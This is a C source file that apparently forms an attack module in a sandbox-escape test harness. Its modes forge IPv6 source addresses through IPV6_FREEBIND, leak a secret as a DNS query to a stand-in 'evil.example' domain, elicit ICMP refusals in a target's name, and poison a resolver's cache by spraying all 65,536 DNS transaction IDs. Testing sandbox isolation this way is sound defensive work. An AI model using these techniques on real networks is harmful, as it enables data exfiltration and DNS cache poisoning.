/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A source address that is not the sandbox's: IPV6_FREEBIND needs no privilege
 * (ipv6(7), net/ipv6/af_inet6.c), and whatever answers the forged packet,
 * answers to the attacker. IPv4 is safe: its route lookup refuses the source.
 */
#define _GNU_SOURCE
#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#ifndef IPV6_FREEBIND
#define IPV6_FREEBIND 78
#endif

static int forged(const struct sockaddr_in6 *source, int type)
{
	const int on = 1;
	int fd = new_socket(AF_INET6, type, 0);

	if (fd < 0 ||
	    setsockopt(fd, IPPROTO_IPV6, IPV6_FREEBIND, &on, sizeof(on)) != 0 ||
	    bind(fd, (const void *)source, sizeof(*source)) != 0)
		return -1;
	return fd;
}

/* sendmsg: nobody is asked about it. */
static ssize_t send_to(const struct scene *s, int fd,
		       const struct sockaddr_in6 *to, int flags)
{
	struct iovec iov = {(char *)(uintptr_t)s->secret, strlen(s->secret)};
	struct msghdr msg = {.msg_name = (char *)(uintptr_t)to,
			     .msg_namelen = sizeof(*to),
			     .msg_iov = &iov,
			     .msg_iovlen = 1};

	return sendmsg(fd, &msg, flags);
}

/*
 * Teach the connection tracker, over lo, that the target has sent something;
 * then answer it.
 */
static enum verdict reply(const struct scene *s)
{
	struct sockaddr_in6 own = s->own6;
	socklen_t len = sizeof(own);
	char buf[64];
	int in = new_socket(AF_INET6, SOCK_DGRAM, 0);
	int out = forged(&s->target6, SOCK_DGRAM);

	if (out < 0)
		return failed("bind to the target's address");
	if (bind(in, (const void *)&own, len) != 0 ||
	    getsockname(in, (void *)&own, &len) != 0)
		return failed("bind");
	if (send_to(s, out, &own, 0) < 0)
		return failed("forged datagram");
	if (recv(in, buf, sizeof(buf), 0) < 1)
		return say(REFUSED, "forged datagram: it did not arrive");
	if (send_to(s, in, &s->target6, 0) < 0)
		return failed("answer");
	/* the echo, if any, is for the forged socket */
	return datagram_echoes(s, in) ? say(THROUGH, "echoed")
				      : say(REFUSED, "sent, not echoed");
}

/* The sandbox's own resolver answers to the target, question and all. */
static enum verdict resolver(const struct scene *s)
{
	struct sockaddr_in6 server = s->allowed6;
	uint8_t query[512];
	char name[256];
	size_t len;
	int fd = forged(&s->target6, SOCK_DGRAM);

	if (fd < 0)
		return failed("bind to the target's address");
	server.sin6_port = htons(53);
	snprintf(name, sizeof(name), "%s.evil.example", s->secret);
	len = dns_message(query, sizeof(query), 1, name, NULL);
	if (sendto(fd, query, len, 0, (const void *)&server, sizeof(server)) <
	    0)
		return failed("query");
	usleep(300000);
	return say(THROUGH, "asked in the target's name");
}

/* The refusal itself quotes the packet, and goes to its source. */
static enum verdict refusal(const struct scene *s, int type)
{
	struct sockaddr_in6 nobody = s->allowed6;
	int fd = forged(&s->target6, type);

	if (fd < 0)
		return failed("bind to the target's address");
	nobody.sin6_addr.s6_addr[15] = 0x99;
	/* a failure is what is wanted: somebody must be told about it */
	send_to(s, fd, &nobody, type == SOCK_STREAM ? MSG_FASTOPEN : 0);
	usleep(300000);
	return say(THROUGH, "asked for a refusal in the target's name");
}

static enum verdict refusal_udp(const struct scene *s)
{
	return refusal(s, SOCK_DGRAM);
}

static enum verdict refusal_tcp(const struct scene *s)
{
	return refusal(s, SOCK_STREAM);
}

/* ------------------------------------------------ poisoning */

/* A resolver's question that is on its way, as /proc/net/udp shows it. */
static bool upstream_socket(const char *file, uint16_t *ret_port)
{
	FILE *table = fopen(file, "re");
	unsigned int port, peer_port;
	char line[512];
	bool found = false;

	while (table && !found && fgets(line, sizeof(line), table))
		found = sscanf(line, "%*d: %*[0-9A-F]:%x %*[0-9A-F]:%x", &port,
			       &peer_port) == 2 &&
			peer_port == 53;
	if (table)
		fclose(table);
	*ret_port = (uint16_t)(found ? port : 0);
	return found;
}

static const struct scene *scene;

/* Keep the resolver asking. */
static void *asker(void *unused)
{
	struct sockaddr_in server;
	struct in_addr addr;

	for (int i = 0; i < 20 && dns_server(&server); i++)
		dns_ask(&server, SOCK_DGRAM, scene->name, &addr);
	return unused;
}

/*
 * Answer the resolver's question in its upstream's name, over lo, with each of
 * the 65,536 identifiers. The harness keeps the true answer from coming.
 */
static enum verdict poison(const struct scene *s)
{
	struct sockaddr_in6 upstream = s->target6, to = s->own6;
	struct sockaddr_in target = s->target4;
	uint8_t answer[512];
	uint16_t port = 0;
	pthread_t thread;
	size_t len = dns_message(answer, sizeof(answer), 0, s->name,
				 &s->target4.sin_addr);
	int fd;

	inet_pton(AF_INET6, "2001:4:112::53", &upstream.sin6_addr);
	upstream.sin6_port = htons(53);
	fd = forged(&upstream, SOCK_DGRAM);
	if (fd < 0)
		return failed("bind to the name server's address");
	scene = s;
	pthread_create(&thread, NULL, asker, NULL);
	for (int i = 0; i < 3000 && !upstream_socket("/proc/net/udp6", &port);
	     i++)
		usleep(1000);
	if (!port)
		return say(UNTRIED, "no question over IPv6 was seen");
	to.sin6_port = htons(port);
	for (unsigned int id = 0; id < 65536; id++) {
		answer[0] = (uint8_t)(id >> 8);
		answer[1] = (uint8_t)id;
		sendto(fd, answer, len, 0, (const void *)&to, sizeof(to));
	}
	target.sin_port = s->allowed4.sin_port;
	return connect_to(s, new_socket(AF_INET, SOCK_STREAM, 0), &target,
			  sizeof(target));
}

const struct attack attack_freebind = {
	"freebind",
	(const struct mode[]){{"reply", reply},
			      {"resolver", resolver},
			      {"refusal-udp", refusal_udp},
			      {"refusal-tcp", refusal_tcp},
			      {"poison", poison},
			      {0}},
};
